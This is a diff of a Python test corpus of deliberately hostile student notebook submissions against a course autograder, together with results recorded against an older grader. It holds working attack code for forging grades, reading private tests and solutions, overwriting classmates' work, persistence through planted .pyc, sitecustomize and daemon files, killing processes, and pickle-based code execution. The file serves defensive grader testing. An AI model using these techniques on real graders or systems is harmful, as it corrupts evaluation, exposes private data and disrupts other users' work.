@@ -18,11 +18,63 @@ cannot (that is, inside a PID namespace); the classmate rewriter only overwrites
 corpus (tagged with its token in their metadata); planted ``sitecustomize.py``/``.pth``/startup
 files only drop marker files and never replace an existing file; :func:`cleanup` removes all of it.
 
-Results against the OLD grader (utils/grade.py as of commit d75bf22: kernel and checks in one
-interpreter, running as the instructor), recorded below after running this corpus with it (see the
-end of this comment for how).
+RESULTS AGAINST THE OLD GRADER (utils/grade.py as of commit d75bf22: the kernel and the checks in
+one interpreter, running as the instructor). Each attack was graded alone or in a small group with
+honest classmates after it, because attacks with lasting effects contaminate the rest of a batch.
+Every attack also left its marker files outside (no sandbox). Worth 0/9 everywhere unless said:
 
-RESULTS-PLACEHOLDER
+  s02 json_dump              RAISED to 9/9
+  s03 builtins_exec          RAISED to 9/9 (forged the result file with the grader's own nonce)
+  s04 numpy_compare          RAISED q1, q5 (2/9)
+  s05 keras_methods          RAISED q1, q3, q5, q6, q7 (5/9)
+  s06 import_module          RAISED to 9/9
+  s07 import_hook            RAISED to 9/9 (the disguised path hook passes the grader's filter)
+  s07b agent_tamper          no effect (that grader has no agent)
+  s09 post_run_cell          RAISED to 9/9
+  s10 input_transformer      RAISED to 9/9
+  s11 audit_hook             RAISED to 9/9
+  s12 settrace               RAISED to 9/9
+  s13 gc_thread              RAISED to 9/9
+  s14 frames_expected        RAISED to 7/9 (q2 and q4 have no `expected` when the answer is called)
+  s15 frames_save            RAISED to 9/9
+  s17 read_stored_solutions  RAISED to 9/9
+  s18 read_master            RAISED to 9/9
+  s19 read_tests_and_git     RAISED to 9/9
+  s20 read_private_tests     RAISED extra_q1 (found the private lesson03.py by walking /tmp)
+  s21 copy_classmates        RAISED to 9/9
+  s22 plant_pyc              RAISED to 9/9, and every LATER kernel ran the planted core (an honest
+                             5/9 became 9/9); the .pyc stays in utils/checks/__pycache__
+  s23 sitecustomize          CHANGED FILES: sitecustomize.py, usercustomize.py and a .pth in the
+                             course root and in the venv's site-packages; later kernels ran them
+  s25 rewrite_classmates     CHANGED FILES: every classmate's notebook not yet read was
+                             overwritten (an honest 5/9 was graded 0/9)
+  s26 daemon                 LEFT A PROCESS: the setsid daemon outlived the batch, planted
+                             ~/.ipython/profile_default/startup/00-course-attack-*.py, and a
+                             later kernel ran the startup file it put in that kernel's IPYTHONDIR
+  s27 kill_parent            killed its grading worker: its row became an error with blank scores;
+                             the batch went on
+  s28 kill_all               KILLED THE BATCH: the grader's main process died, no gradebook at
+                             all, kernels left orphaned
+  s29 timeout_check          HELD ITS ROW 345 s with a 30 s cell limit (alarm cancelled, SIGINT
+                             ignored; the note did say 30 s)
+  s30 forge_files            no effect on its own row (it loses the race for its own result
+                             file), but its thread RAISED a classmate to 2/9: it rewrote the result
+                             file of a kernel stuck in the other worker, which was never saved again
+  s31 fake_pass              no effect
+  s32 lying_objects          RAISED extra_q1 (the private test's `got == expected` believes the
+                             int subclass)
+  s33 score_overflow         RAISED every score to 5, overwrote the total column with 99, and
+                             added the columns q9, q0 and extra_q7
+  honest s01/s08/s16/s24/s34 got their worth unless a lasting attack ran before them.
+
+The whole corpus in one batch (34 submissions, before s07b was added): 168 s with 2 workers,
+exit 0, but with contaminated rows. After s22 every row scored 9/9 (the planted .pyc), and s25
+overwrote s26-s34 with the blank lesson before they were read, so s28 never ran; in the other
+order s28 kills the batch. In the test's form the same batch took 127 s.
+
+How it was run: in a throw-away namespace (``unshare --mount --pid --fork --mount-proc`` with
+overlayfs over the course, the venv and /root), from a ``git archive d75bf22`` export, with
+``python tests/adversarial.py OUT --only s22,s34`` and similar.
 """
 from __future__ import annotations
 
@@ -32,7 +84,6 @@ import copy
 import csv
 import hashlib
 import importlib.util
-import json
 import marshal
 import os
 import re
@@ -55,6 +106,8 @@ CHECKS = ROOT / "utils" / "checks" / "lesson03.py"
 MIME = "application/vnd.cnn-course.check+json"
 TAG = "course_adversarial"       # notebook metadata key: {"token": ..., "student": ...}
 LIFETIME = 150                   # seconds any process started by an attack lives at most
+FORGED_NAMES = ["results.json", "result.json", "grades.json", "checks.json", "grades.csv.json",
+                "course-grade-result.json"]   # where s30 writes forged results (and outside)
 
 
 # ============================================================================ the private tests
@@ -206,8 +259,15 @@ def _functions(body: str, names=tuple(_DEFS)) -> str:
 
 A = {}  # attack name -> (family, description, base, cells)
 
-A["json_dump"] = (1, "patches json.dump/json.dumps so that every result-looking record it "
-                  "serialises says PASS, score 1", "stub", [PRELUDE + r'''
+
+def _attack(family: int, description: str, base: str, cells: list) -> tuple:
+    """One attack: its family (1-7), what it does, its base notebook ("stub": the setup and
+    exercise cells of the untouched lesson; "untouched": the whole lesson) and its cells."""
+    return family, description, base, cells
+
+A["json_dump"] = _attack(
+    1, "patches json.dump/json.dumps so that every result-looking record it "
+    "serialises says PASS, score 1", "stub", [PRELUDE + r'''
 _mark("json_dump")
 import json
 
@@ -244,9 +304,10 @@ def _dumps(obj, *args, **kwargs):
 json.dump, json.dumps = _dump, _dumps
 '''])
 
-A["builtins_exec"] = (1, "replaces builtins.exec, reached as print.__self__ (never naming "
-                      "builtins): when the grader execs its code it writes a forged all-PASS "
-                      "result with the grader's own nonce instead", "stub", [PRELUDE + r'''
+A["builtins_exec"] = _attack(
+    1, "replaces builtins.exec, reached as print.__self__ (never naming "
+    "builtins): when the grader execs its code it writes a forged all-PASS "
+    "result with the grader's own nonce instead", "stub", [PRELUDE + r'''
 _mark("builtins_exec")
 import re
 from utils.checks import lesson03 as _lesson
@@ -281,9 +342,10 @@ def _exec(source, globals=None, locals=None, /, **kwargs):
 vars(_home)["exec"] = _exec
 '''])
 
-A["numpy_compare"] = (1, "patches np.isclose/np.allclose/np.array_equal/np.testing so every "
-                      "comparison succeeds, and returns zeros of the right shape", "stub",
-                      [PRELUDE + r'''
+A["numpy_compare"] = _attack(
+    1, "patches np.isclose/np.allclose/np.array_equal/np.testing so every "
+    "comparison succeeds, and returns zeros of the right shape", "stub",
+    [PRELUDE + r'''
 _mark("numpy_compare")
 import numpy as np
 
@@ -312,9 +374,10 @@ def conv2d(x, kernels, bias, stride=1, padding="valid", dilation=1):
     return np.zeros((rows, cols, c_out))
 '''])
 
-A["keras_methods"] = (1, "patches keras.layers.Conv2D.call (zeros), compute_output_shape and "
-                      "count_params (and DepthwiseConv2D/SeparableConv2D.count_params) so the "
-                      "references match constant answers", "stub", [PRELUDE + r'''
+A["keras_methods"] = _attack(
+    1, "patches keras.layers.Conv2D.call (zeros), compute_output_shape and "
+    "count_params (and DepthwiseConv2D/SeparableConv2D.count_params) so the "
+    "references match constant answers", "stub", [PRELUDE + r'''
 _mark("keras_methods")
 import keras
 import numpy as np
@@ -350,9 +413,10 @@ def conv2d(x, kernels, bias, stride=1, padding="valid", dilation=1):
 ''' + _functions("return 1001", ["conv_output_size", "conv_params", "depthwise_params",
                                  "separable_params"])])
 
-A["import_module"] = (1, "patches importlib.import_module to hand the grader a copy of "
-                      "utils.checks.core (same __file__) whose questions_of() yields questions "
-                      "that always PASS", "stub", [PRELUDE + r'''
+A["import_module"] = _attack(
+    1, "patches importlib.import_module to hand the grader a copy of "
+    "utils.checks.core (same __file__) whose questions_of() yields questions "
+    "that always PASS", "stub", [PRELUDE + r'''
 _mark("import_module")
 import importlib, re, types
 
@@ -393,10 +457,11 @@ def _import_module(name, package=None):
 importlib.import_module = _import_module
 '''])
 
-A["import_hook"] = (1, "adds a sys.path_hooks entry disguised as the standard FileFinder hook "
-                    "(__module__ = _frozen_importlib_external) and a sys.meta_path finder named "
-                    "PathFinder; both serve utils.checks.core from its real path with evaluate() "
-                    "always PASS", "stub", [PRELUDE + "_OVERRIDE = " + repr(OVERRIDE) + r'''
+A["import_hook"] = _attack(
+    1, "adds a sys.path_hooks entry disguised as the standard FileFinder hook "
+    "(__module__ = _frozen_importlib_external) and a sys.meta_path finder named "
+    "PathFinder; both serve utils.checks.core from its real path with evaluate() "
+    "always PASS", "stub", [PRELUDE + "_OVERRIDE = " + repr(OVERRIDE) + r'''
 _mark("import_hook")
 import importlib.machinery, importlib.util
 import utils.checks.core as _core
@@ -462,10 +527,52 @@ _sys.meta_path.insert(0, PathFinder)
 _sys.path_importer_cache.clear()
 '''])
 
-A["post_run_cell"] = (2, "registers an IPython post_run_cell callback: after every cell (the "
-                      "grader's too) it reads the result path and nonce from the cell's source "
-                      "and rewrites the result file, and any result-looking JSON in /tmp",
-                      "stub", [PRELUDE + FORGE + r'''
+A["agent_tamper"] = _attack(
+    1, "patches the grader's in-kernel agent (utils.grading.agent, if the "
+    "grader has one; also on every pre_run_cell): each reply it sends gets "
+    "PASS/score 5/an invented key, a raised NotImplementedError becomes a value, "
+    "and op_evaluate always answers PASS with score 5", "stub", [PRELUDE + r'''
+_mark("agent_tamper")
+import importlib
+
+
+def _lie(reply):
+    try:
+        data = _json.loads(reply)
+    except Exception:
+        return reply
+    if isinstance(data, dict):
+        data.update(status="PASS", score=5.0, messages=["All cases passed."], passed=True,
+                    verdict="PASS", key="q9")
+        if "raised" in data:      # the student's NotImplementedError never happened
+            data.pop("raised")
+            data["value"] = 1
+    return _json.dumps(data)
+
+
+def _patch_agent(*args):
+    try:
+        agent = importlib.import_module("utils.grading.agent")
+    except Exception:
+        return
+    if getattr(agent.Agent, "_course_attack", False):
+        return
+    real_handle = agent.Agent.handle
+    agent.Agent.handle = lambda self, text: _lie(real_handle(self, text))
+    agent.Agent.op_evaluate = lambda self, request: {
+        "status": "PASS", "score": 5.0, "messages": ["All cases passed."], "key": "q9"}
+    agent.Agent._course_attack = True
+
+
+_patch_agent()
+get_ipython().events.register("pre_run_cell", _patch_agent)
+'''])
+
+A["post_run_cell"] = _attack(
+    2, "registers an IPython post_run_cell callback: after every cell (the "
+    "grader's too) it reads the result path and nonce from the cell's source "
+    "and rewrites the result file, and any result-looking JSON in /tmp",
+    "stub", [PRELUDE + FORGE + r'''
 _mark("post_run_cell")
 import ast, glob, re
 
@@ -486,10 +593,11 @@ def _after_cell(result):
 get_ipython().events.register("post_run_cell", _after_cell)
 '''])
 
-A["input_transformer"] = (2, "adds an IPython input transformer (input_transformers_post) that "
-                          "rewrites the source of every later cell, the grader's included: "
-                          "`float(result.score)` becomes `1.0`; the whole lesson runs after it",
-                          "untouched", [PRELUDE + r'''
+A["input_transformer"] = _attack(
+    2, "adds an IPython input transformer (input_transformers_post) that "
+    "rewrites the source of every later cell, the grader's included: "
+    "`float(result.score)` becomes `1.0`; the whole lesson runs after it",
+    "untouched", [PRELUDE + r'''
 _mark("input_transformer")
 
 
@@ -501,9 +609,10 @@ def _transform(lines):
 get_ipython().input_transformers_post.append(_transform)
 '''])
 
-A["audit_hook"] = (2, "sys.addaudithook: on the os.rename audit event of os.replace(x.part, x) "
-                   "it rewrites the .part file as all PASS before it is renamed", "stub",
-                   [PRELUDE + FORGE + r'''
+A["audit_hook"] = _attack(
+    2, "sys.addaudithook: on the os.rename audit event of os.replace(x.part, x) "
+    "it rewrites the .part file as all PASS before it is renamed", "stub",
+    [PRELUDE + FORGE + r'''
 _mark("audit_hook")
 _busy = []
 
@@ -525,15 +634,16 @@ def _audit(event, args):
 _sys.addaudithook(_audit)
 '''])
 
-A["settrace"] = (2, "sys.settrace: at the 'call' event of the grader's code it rewrites the "
-                 "grader's PARAMS (course root, expected module files) to a fake course in a "
-                 "temp folder whose core.py always PASSes", "stub", [PRELUDE + r'''
+A["settrace"] = _attack(
+    2, "sys.settrace: at the 'call' event of the grader's code it rewrites the "
+    "grader's PARAMS (course root, expected module files) to a fake course in a "
+    "temp folder whose core.py always PASSes", "stub", [PRELUDE + r'''
 _mark("settrace")
 import shutil, tempfile
 import utils
 
 _REAL = _os.path.dirname(_os.path.dirname(_os.path.abspath(utils.__file__)))
-_FAKE = tempfile.mkdtemp(prefix="course-attack-")
+_FAKE = tempfile.mkdtemp(prefix="course-attack-%s-course-" % _TOKEN)
 _CHECKS = _os.path.join(_FAKE, "utils", "checks")
 _os.makedirs(_CHECKS)
 open(_os.path.join(_FAKE, "utils", "__init__.py"), "w").close()
@@ -562,11 +672,12 @@ def _tracer(frame, event, arg):
 _sys.settrace(_tracer)
 '''])
 
-A["gc_thread"] = (2, "a background thread scans gc.get_objects() for the grader's globals (it "
-                  "replaces their save()), its result dict and Result objects, and sets every "
-                  "score to 1", "stub", [PRELUDE + r'''
+A["gc_thread"] = _attack(
+    2, "a background thread scans gc.get_objects() for the grader's globals (it "
+    "replaces their save()), its result dict and Result objects, and sets every "
+    "score to 1", "stub", [PRELUDE + r'''
 _mark("gc_thread")
-import gc, threading
+import gc, threading, types
 
 
 def _forge_records(out):
@@ -584,32 +695,36 @@ def _forged_save(real_save, out):
     return save
 
 
+def _visit(obj):
+    if type(obj) is dict:
+        out, save = obj.get("out"), obj.get("save")
+        if type(out) is dict and "nonce" in out and type(save) is types.FunctionType \
+                and not getattr(save, "_course_attack", False):
+            obj["save"] = _forged_save(save, out)
+        if "nonce" in obj and "questions" in obj:
+            _forge_records(obj)
+    elif type(obj).__name__ == "Result" and hasattr(obj, "score"):
+        obj.score, obj.status = 1.0, "PASS"
+
+
 def _rewriter():
     deadline = _time.time() + 600
     while _time.time() < deadline:
-        try:
-            for obj in gc.get_objects():
-                if isinstance(obj, dict):
-                    out = obj.get("out")
-                    save = obj.get("save")
-                    if isinstance(out, dict) and "nonce" in out and callable(save) \
-                            and not getattr(save, "_course_attack", False):
-                        obj["save"] = _forged_save(save, out)
-                    if "nonce" in obj and "questions" in obj:
-                        _forge_records(obj)
-                elif type(obj).__name__ == "Result" and hasattr(obj, "score"):
-                    obj.score, obj.status = 1.0, "PASS"
-        except Exception:
-            pass
-        _time.sleep(0.1)
+        for obj in gc.get_objects():
+            try:
+                _visit(obj)
+            except Exception:
+                pass
+        _time.sleep(0.02)
 
 
 threading.Thread(target=_rewriter, daemon=True, name="font-cache").start()
 '''])
 
-A["frames_expected"] = (3, "every exercise function walks the caller's frames with "
-                        "sys._getframe and returns the checker's local `expected`", "stub",
-                        [PRELUDE + r'''
+A["frames_expected"] = _attack(
+    3, "every exercise function walks the caller's frames with "
+    "sys._getframe and returns the checker's local `expected`", "stub",
+    [PRELUDE + r'''
 _mark("frames_expected")
 import numpy as np
 
@@ -643,9 +758,10 @@ def conv2d(x, kernels, bias, stride=1, padding="valid", dilation=1):
 ''' + _functions("return _as_int(_spy())", ["conv_output_size", "conv_params", "depthwise_params",
                                            "separable_params", "receptive_field"])])
 
-A["frames_save"] = (3, "exercise functions walk inspect.stack() to the grader's frame and "
-                    "replace its save() (and its result records) so that every score is 1",
-                    "stub", [PRELUDE + r'''
+A["frames_save"] = _attack(
+    3, "exercise functions walk inspect.stack() to the grader's frame and "
+    "replace its save() (and its result records) so that every score is 1",
+    "stub", [PRELUDE + r'''
 _mark("frames_save")
 import inspect
 
@@ -671,16 +787,25 @@ def _hijack():
 
 ''' + _functions("_hijack()\nreturn -1")])
 
-A["read_stored_solutions"] = (4, "reads utils/checks/solutions/lesson03.json (through "
-                              "core.solution_code and the file itself) and execs every stored "
-                              "answer", "stub", [PRELUDE + r'''
+A["read_stored_solutions"] = _attack(
+    4, "reads utils/checks/solutions/lesson03.json (through "
+    "core.solution_code and the file itself) and execs every stored "
+    "answer", "stub", [PRELUDE + r'''
 _mark("read_stored_solutions")
 import glob
 import numpy as np
 import utils.checks.core as _core
 
 _stored = {}
-for _path in [str(_core.SOLUTIONS_DIR / "lesson03.json")] + glob.glob(
+_places = [_os.path.join(_os.path.dirname(_core.__file__), "solutions", "lesson03.json")]
+for _module in ("utils.checks.core", "utils.course", "utils.config"):
+    try:
+        _vars = vars(__import__(_module, fromlist=["x"]))
+    except Exception:
+        continue
+    _places += [_os.path.join(str(v), "lesson03.json") for k, v in _vars.items()
+                if "SOLUTION" in k.upper() and isinstance(v, (str, _os.PathLike))]
+for _path in _places + glob.glob(
         _os.path.join(_os.path.dirname(_core.__file__), "solutions", "*03*.json")):
     try:
         with open(_path, encoding="utf-8") as _handle:
@@ -699,8 +824,9 @@ for _key in ["q%d" % i for i in range(1, 9)]:
             pass
 '''])
 
-A["read_master"] = (4, "reads the master solutions/03_convolution.ipynb of the course and "
-                    "execs its solution cells", "stub", [PRELUDE + r'''
+A["read_master"] = _attack(
+    4, "reads the master solutions/03_convolution.ipynb of the course and "
+    "execs its solution cells", "stub", [PRELUDE + r'''
 _mark("read_master")
 import glob
 import numpy as np
@@ -723,10 +849,11 @@ for _path in sorted(glob.glob(_os.path.join(_root, "solutions", "*03*.ipynb"))):
                 pass
 '''])
 
-A["read_tests_and_git"] = (4, "reads the reference answers in the course's tests/"
-                           "test_lesson03.py, and the master and stored solutions from the "
-                           "course's .git (git show, safe.directory=*), and execs them", "stub",
-                           [PRELUDE + r'''
+A["read_tests_and_git"] = _attack(
+    4, "reads the reference answers in the course's tests/"
+    "test_lesson03.py, and the master and stored solutions from the "
+    "course's .git (git show, safe.directory=*), and execs them", "stub",
+    [PRELUDE + r'''
 _mark("read_tests_and_git")
 import ast, math, subprocess
 import numpy as np
@@ -779,10 +906,11 @@ except ValueError:
     pass
 '''])
 
-A["read_private_tests"] = (4, "looks for the instructor's private lesson03.py in its "
-                           "environment, every /proc/*/cmdline, /proc/*/environ and /proc/*/cwd, "
-                           "and by walking the folders above it and /tmp; answers from its "
-                           "literal CASES table", "stub", [PRELUDE + WALK + r'''
+A["read_private_tests"] = _attack(
+    4, "looks for the instructor's private lesson03.py in its "
+    "environment, every /proc/*/cmdline, /proc/*/environ and /proc/*/cwd, "
+    "and by walking the folders above it and /tmp; answers from its "
+    "literal CASES table", "stub", [PRELUDE + WALK + r'''
 _mark("read_private_tests")
 import ast
 import utils.checks.lesson03 as _public
@@ -848,9 +976,10 @@ def conv_output_size(n, k, stride=1, padding=0, dilation=1):
     return -1
 '''])
 
-A["copy_classmates"] = (4, "walks the folders above it and /tmp for classmates' notebooks, "
-                        "runs their exercise cells and keeps every answer the public checks "
-                        "PASS", "stub", [PRELUDE + WALK + r'''
+A["copy_classmates"] = _attack(
+    4, "walks the folders above it and /tmp for classmates' notebooks, "
+    "runs their exercise cells and keeps every answer the public checks "
+    "PASS", "stub", [PRELUDE + WALK + r'''
 _mark("copy_classmates")
 import ast, re
 import numpy as np
@@ -875,16 +1004,20 @@ def _defines(source):
     return False
 
 
-for _path in sorted(_walk(".ipynb")):
-    if len(_done) == len(_questions) or _time.monotonic() > _deadline:
-        break
+_found = []
+for _path in sorted(_walk(".ipynb"))[:400]:
     try:
         with open(_path, encoding="utf-8") as _handle:
             _nb = _json.load(_handle)
-    except (OSError, ValueError):
+        _tag = _nb.get("metadata", {}).get("course_adversarial", {})
+    except (OSError, ValueError, AttributeError):
         continue
-    if _nb.get("metadata", {}).get("course_adversarial", {}).get("student") == "@STUDENT@":
-        continue
+    if _tag.get("student") == "@STUDENT@" or "_MARK_DIRS" in _json.dumps(_nb.get("cells")):
+        continue    # itself, or another attacker of a corpus like this one: nothing to copy
+    _found.append((_tag.get("token") != _TOKEN, _path, _nb))   # classmates first
+for _other, _path, _nb in sorted(_found, key=lambda f: f[:2]):
+    if len(_done) == len(_questions) or _time.monotonic() > _deadline:
+        break
     _ns = {"np": np, "__name__": "__classmate__"}
     for _cell in _nb.get("cells", []):
         _source = _cell.get("source", "")
@@ -900,25 +1033,30 @@ for _path in sorted(_walk(".ipynb")):
                 if _q.evaluate(namespace=_ns).score >= 1:
                     globals().update({n: _ns[n] for n in _q.names})
                     _done.add(_q.key)
+                    print("copied", _q.key, "from", _path)
             except Exception:
                 pass
 '''])
 
-A["plant_pyc"] = (5, "plants an unchecked hash-based .pyc of utils/checks/core.py (evaluate() "
-                  "always PASS, drops a marker) in utils/checks/__pycache__, used by every later "
-                  "import whatever the source says", "stub", [PRELUDE + r'''
+A["plant_pyc"] = _attack(
+    5, "plants an unchecked hash-based .pyc of utils/checks/core.py (evaluate() "
+    "always PASS, drops a marker) in utils/checks/__pycache__, used by every later "
+    "import whatever the source says", "stub", [PRELUDE + r'''
 _mark("plant_pyc")
 import importlib.util, py_compile, tempfile
 import utils.checks.core as _core
 
-_payload = "\nfor _d in %r:\n    try:\n        import os as _o\n        _o.makedirs(_d, exist_ok=True)\n        open(_o.path.join(_d, 'planted-pyc-ran-%%d' %% _o.getpid()), 'w').close()\n    except OSError:\n        pass\n" % (_MARK_DIRS,)
+_payload = ("\nfor _d in %r:\n    try:\n        import os as _o\n"
+            "        _o.makedirs(_d, exist_ok=True)\n"
+            "        open(_o.path.join(_d, 'planted-pyc-ran-%%d' %% _o.getpid()), 'w').close()\n"
+            "    except OSError:\n        pass\n" % (_MARK_DIRS,))
 with open(_core.__file__, encoding="utf-8") as _handle:
     _source = _handle.read() + _payload + """
 def _course_attack_evaluate(self, namespace=None, **given):
     return Result(self.label, PASS, 1.0, ["All cases passed."])
 Question.evaluate = _course_attack_evaluate
 """
-_tmp = _os.path.join(tempfile.mkdtemp(), "core.py")
+_tmp = _os.path.join(tempfile.mkdtemp(prefix="course-attack-%s-pyc-" % _TOKEN), "core.py")
 with open(_tmp, "w", encoding="utf-8") as _handle:
     _handle.write(_source)
 for _target in {importlib.util.cache_from_source(_core.__file__),
@@ -932,10 +1070,11 @@ for _target in {importlib.util.cache_from_source(_core.__file__),
         print("could not plant", _target, type(_exc).__name__)
 '''])
 
-A["sitecustomize"] = (5, "writes sitecustomize.py/usercustomize.py into the course root and "
-                      "every site-packages folder, and a .pth file (each drops a marker in "
-                      "every later Python process); never replaces an existing file", "stub",
-                      [PRELUDE + r'''
+A["sitecustomize"] = _attack(
+    5, "writes sitecustomize.py/usercustomize.py into the course root and "
+    "every site-packages folder, and a .pth file (each drops a marker in "
+    "every later Python process); never replaces an existing file", "stub",
+    [PRELUDE + r'''
 _mark("sitecustomize")
 import site, sysconfig
 import utils
@@ -964,9 +1103,10 @@ for _folder in sorted(_folders):
             print("could not plant", _path, type(_exc).__name__)
 '''])
 
-A["rewrite_classmates"] = (5, "searches the file system for classmates' notebooks (of this "
-                           "corpus) and overwrites them with the blank lesson", "stub",
-                           [PRELUDE + WALK + r'''
+A["rewrite_classmates"] = _attack(
+    5, "searches the file system for classmates' notebooks (of this "
+    "corpus) and overwrites them with the blank lesson", "stub",
+    [PRELUDE + WALK + r'''
 _mark("rewrite_classmates")
 import utils
 
@@ -1036,10 +1176,11 @@ while time.time() < end:
     time.sleep(0.2)
 '''
 
-A["daemon"] = (5, "double-forks a setsid daemon (and a plain child) that ignore SIGTERM/SIGHUP, "
-               "outlive the kernel for up to 150 s, touch a marker outside and plant IPython "
-               "startup files in ~/.ipython and in every later kernel's IPYTHONDIR", "stub",
-               [PRELUDE + r'''
+A["daemon"] = _attack(
+    5, "double-forks a setsid daemon (and a plain child) that ignore SIGTERM/SIGHUP, "
+    "outlive the kernel for up to 150 s, touch a marker outside and plant IPython "
+    "startup files in ~/.ipython and in every later kernel's IPYTHONDIR", "stub",
+    [PRELUDE + r'''
 _mark("daemon")
 import subprocess
 
@@ -1065,8 +1206,9 @@ subprocess.Popen([_sys.executable, "-c", "import signal, time\n"
 _time.sleep(1)
 '''])
 
-A["kill_parent"] = (5, "os.kill(os.getppid(), SIGKILL): kills the process that started its "
-                    "kernel", "stub", [PRELUDE + r'''
+A["kill_parent"] = _attack(
+    5, "os.kill(os.getppid(), SIGKILL): kills the process that started its "
+    "kernel", "stub", [PRELUDE + r'''
 _mark("kill_parent")
 import signal
 _parent = _os.getppid()
@@ -1076,10 +1218,11 @@ if _parent > 0:        # 0: the parent is outside this PID namespace
 _time.sleep(2)
 '''])
 
-A["kill_all"] = (5, "SIGKILLs every process it can see: os.kill(-1, 9) and a walk of /proc when "
-                 "isolated; when it can see the grader or the test's sentinel it kills (only) "
-                 "the sentinel and its own Python ancestors, i.e. the whole batch", "stub",
-                 [PRELUDE + r'''
+A["kill_all"] = _attack(
+    5, "SIGKILLs every process it can see: os.kill(-1, 9) and a walk of /proc when "
+    "isolated; when it can see the grader or the test's sentinel it kills (only) "
+    "the sentinel and its own Python ancestors, i.e. the whole batch", "stub",
+    [PRELUDE + r'''
 _mark("kill_all")
 import signal
 
@@ -1132,9 +1275,10 @@ else:
 _time.sleep(2)
 '''])
 
-A["timeout_check"] = (6, "conv_output_size (called by the q3 check and the private test) "
-                      "cancels the alarm (setitimer 0), ignores SIGALRM, SIGINT and SIGTERM and "
-                      "loops forever", "stub", [PRELUDE + r'''
+A["timeout_check"] = _attack(
+    6, "receptive_field (called by the q8 check only) cancels the alarm "
+    "(setitimer 0), ignores SIGALRM, SIGINT and SIGTERM and loops forever",
+    "stub", [PRELUDE + r'''
 _mark("timeout_check")
 import signal
 
@@ -1159,13 +1303,14 @@ def _unstoppable():
         pass
 
 
-def conv_output_size(n, k, stride=1, padding=0, dilation=1):
+def receptive_field(layers):
     _unstoppable()
 '''])
 
-A["forge_files"] = (7, "writes forged all-PASS result JSON files wherever it can write, and a "
-                    "thread that rewrites any result-looking JSON (keeping its nonce) under /tmp "
-                    "within a millisecond of each change", "stub", [PRELUDE + FORGE + r'''
+A["forge_files"] = _attack(
+    7, "writes forged all-PASS result JSON files wherever it can write, and a "
+    "thread that rewrites any result-looking JSON (keeping its nonce) under /tmp "
+    "within a millisecond of each change", "stub", [PRELUDE + FORGE + r'''
 _mark("forge_files")
 import glob, re, tempfile, threading
 import utils
@@ -1176,12 +1321,11 @@ _record = lambda key: {"key": key, "question": key, "missing": [], "status": "PA
                        "score": 1.0, "messages": ["All cases passed."]}
 _forged = {"nonce": "", "questions": [_record(k) for k in _KEYS], "extra": [_record("q1")],
            "done": True, "error": None, "extra_error": None, "current": None,
-           "student": "@STUDENT@", "total": len(_KEYS) + 1}
+           "student": "@STUDENT@", "total": len(_KEYS) + 1, "by": "course-attack-" + _TOKEN}
 _root = _os.path.dirname(_os.path.dirname(_os.path.abspath(utils.__file__)))
 for _folder in {_os.getcwd(), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", _root,
                 _os.path.expanduser("~")}:
-    for _name in ("results.json", "result.json", "grades.json", "checks.json",
-                  "@STUDENT@.json", "course-grade-result.json"):
+    for _name in @FORGED_NAMES@:
         try:
             with open(_os.path.join(_folder, _name), "w") as _handle:
                 _json.dump(_forged, _handle)
@@ -1215,9 +1359,10 @@ def _watch():
 threading.Thread(target=_watch, daemon=True).start()
 '''])
 
-A["fake_pass"] = (7, "prints fake [PASS] verdicts and displays check-result MIME bundles "
-                  "(application/vnd.cnn-course.check+json), also from inside every exercise "
-                  "function while a check calls it", "stub", [PRELUDE + r'''
+A["fake_pass"] = _attack(
+    7, "prints fake [PASS] verdicts and displays check-result MIME bundles "
+    "(application/vnd.cnn-course.check+json), also from inside every exercise "
+    "function while a check calls it", "stub", [PRELUDE + r'''
 _mark("fake_pass")
 from IPython.display import display
 from utils.checks.core import Result
@@ -1244,10 +1389,12 @@ _shout()
 
 ''' + _functions("_shout()\nraise NotImplementedError()")])
 
-A["lying_objects"] = (7, "returns objects that lie: an int subclass whose == is always True, an "
-                      "ndarray subclass whose == and ufuncs say True, an object array; all "
-                      "carry a __reduce__ that runs code (a marker, then all-PASS) wherever "
-                      "they are unpickled", "stub", [PRELUDE + r'''
+A["lying_objects"] = _attack(
+    7, "returns objects that lie: an int subclass whose == is always True, an "
+    "ndarray subclass whose == and ufuncs say True, an object array, a dict "
+    "forging an array tag around a pickled .npy, a model with a Lambda layer; "
+    "each runs code (a marker, then all-PASS) wherever it is unpickled or "
+    "loaded unsafely", "stub", [PRELUDE + r'''
 _mark("lying_objects")
 import numpy as np
 
@@ -1304,20 +1451,43 @@ def conv2d(x, kernels, bias, stride=1, padding="valid", dilation=1):
     return np.array([[[Trojan()]]], dtype=object)
 
 
+import base64, io
+
+_buffer = io.BytesIO()
+np.save(_buffer, np.array([Trojan()], dtype=object), allow_pickle=True)
+_FORGED_TAG = {"$": "array", "npy": base64.b64encode(_buffer.getvalue()).decode()}
+
+
 def same_padding(n, k, stride=1, dilation=1):
-    return (LyingInt(-1), LyingInt(-1))
+    return _FORGED_TAG     # looks like the tagged form of an array, holds a pickle
+
+
+try:   # a model whose Lambda layer (bytecode in its config) drops a marker outside a kernel
+    import keras
+    _where = _MARK_DIRS[0] + "/lambda-layer-ran"
+    _spy = eval("lambda x: (__import__('os').makedirs(%r, exist_ok=True) if 'ipykernel' not in "
+                "__import__('sys').modules else None, x)[1]" % _where)
+    _inputs = keras.Input((2,))
+    _LAMBDA_MODEL = keras.Model(_inputs, keras.layers.Lambda(_spy)(_inputs))
+except Exception:
+    _LAMBDA_MODEL = None
+
+
+def receptive_field(layers):
+    return _LAMBDA_MODEL if _LAMBDA_MODEL is not None else LyingInt(-1)
 
 
 horizontal_edge = vertical_edge = blur_kernel = sharpen_kernel = np.zeros((3, 3)).view(LyingArray)
 
 
 ''' + _functions("return LyingInt(-1)", ["conv_output_size", "conv_params", "depthwise_params",
-                                        "separable_params", "receptive_field"])])
+                                        "separable_params"])])
 
-A["score_overflow"] = (7, "patches os.replace so the grader's result file gets scores of 5 and "
-                       "invented records (q9, q0, extra q7, and one named `total` that "
-                       "overwrites the total column); its answers are absurd values (10**30, "
-                       "inf, nan)", "stub", [PRELUDE + r'''
+A["score_overflow"] = _attack(
+    7, "patches os.replace so the grader's result file gets scores of 5 and "
+    "invented records (q9, q0, extra q7, and one named `total` that "
+    "overwrites the total column); its answers are absurd values (10**30, "
+    "inf, nan)", "stub", [PRELUDE + r'''
 _mark("score_overflow")
 import numpy as np
 
@@ -1363,7 +1533,8 @@ def conv2d_single(image, kernel):
 # ============================================================================ honest answers
 
 FRACTION_ANSWERS = {  # a classmate who gets parts of some exercises wrong
